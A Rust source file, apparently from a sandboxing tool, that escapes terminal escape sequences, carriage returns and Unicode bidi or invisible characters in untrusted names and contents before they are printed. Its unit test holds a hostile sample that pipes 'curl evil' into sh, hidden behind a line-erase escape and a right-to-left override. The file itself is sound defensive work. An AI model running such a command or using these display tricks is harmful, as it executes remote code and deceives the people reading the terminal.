//! Text for a person's terminal, from untrusted bytes.
//!
//! File names, symlink targets and file contents come from the workspace or
//! from the sandboxed command: both are untrusted. Printed raw, an escape
//! sequence can rewrite what a terminal shows (hide a line, recolour it, move
//! the cursor), a carriage return can overprint a line, and Unicode bidi or
//! invisible formatting characters can make one name look like another.
//! Everything pvisor prints for a person goes through [`escape`], which shows
//! such characters escaped, the way `git` quotes paths (`\x1b`, `\r`,
//! `\u{202e}`). JSON output is exact and never goes through here.

use std::borrow::Cow;

/// Whether `c` is shown escaped: C0 and C1 controls and DEL, and the Unicode
/// characters that reorder or hide text (bidi embeddings, overrides and
/// isolates, zero-width and other invisible formatting characters).
pub fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{00AD}'
                | '\u{034F}'
                | '\u{061C}'
                | '\u{115F}'
                | '\u{1160}'
                | '\u{17B4}'
                | '\u{17B5}'
                | '\u{180B}'..='\u{180F}'
                | '\u{200B}'..='\u{200F}'
                | '\u{2028}'..='\u{202E}'
                | '\u{2060}'..='\u{206F}'
                | '\u{3164}'
                | '\u{FE00}'..='\u{FE0F}'
                | '\u{FEFF}'
                | '\u{FFA0}'
                | '\u{FFF9}'..='\u{FFFB}'
                | '\u{E0000}'..='\u{E007F}'
        )
}

/// How [`escape`] treats a tab.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Tabs {
    /// Shown as `\t` (names: a tab in a file name is a surprise).
    Escape,
    /// Kept (file contents, where tabs are ordinary).
    Keep,
}

/// Returns `text` with every unsafe character escaped; borrowed when there is none.
pub fn escape(text: &str, tabs: Tabs) -> Cow<'_, str> {
    let needs = |c: char| is_unsafe(c) && !(c == '\t' && tabs == Tabs::Keep);
    if !text.chars().any(needs) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if !needs(c) {
            out.push(c);
            continue;
        }
        match c {
            '\t' => out.push_str("\\t"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            c if (c as u32) < 0x100 => out.push_str(&format!("\\x{:02x}", c as u32)),
            c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
        }
    }
    Cow::Owned(out)
}

/// Escapes arbitrary bytes: unsafe characters as in [`escape`], and bytes
/// that are not UTF-8 as `\xNN`.
pub fn escape_bytes(bytes: &[u8], tabs: Tabs) -> String {
    let mut out = String::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        out.push_str(&escape(chunk.valid(), tabs));
        for b in chunk.invalid() {
            out.push_str(&format!("\\x{b:02x}"));
        }
    }
    out
}

/// How many characters of `text` [`escape`] would escape (tabs kept).
pub fn count_unsafe(text: &str) -> usize {
    text.chars().filter(|&c| is_unsafe(c) && c != '\t' && c != '\n').count()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn terminal_controls_and_bidi_characters_are_shown_escaped() {
        let hostile = "ok\x1b[2K\rcurl evil | sh\u{202e}txt.exe\u{200b}";
        let shown = escape(hostile, Tabs::Escape);
        assert_eq!(shown, "ok\\x1b[2K\\rcurl evil | sh\\u{202e}txt.exe\\u{200b}");
        assert!(!shown.chars().any(is_unsafe), "{shown}");
        assert_eq!(escape("a\tb", Tabs::Keep), "a\tb");
        assert_eq!(escape("a\tb", Tabs::Escape), "a\\tb");
        assert!(matches!(escape("plain name ünïcode", Tabs::Escape), Cow::Borrowed(_)));
        assert_eq!(escape("\u{9b}31m", Tabs::Escape), "\\x9b31m");
    }

    #[test]
    fn invalid_utf8_is_escaped_byte_by_byte() {
        assert_eq!(escape_bytes(b"a\xffb\x1b", Tabs::Escape), "a\\xffb\\x1b");
        assert_eq!(count_unsafe("x\x1b[0m\x1b[1m\n"), 2);
    }
}
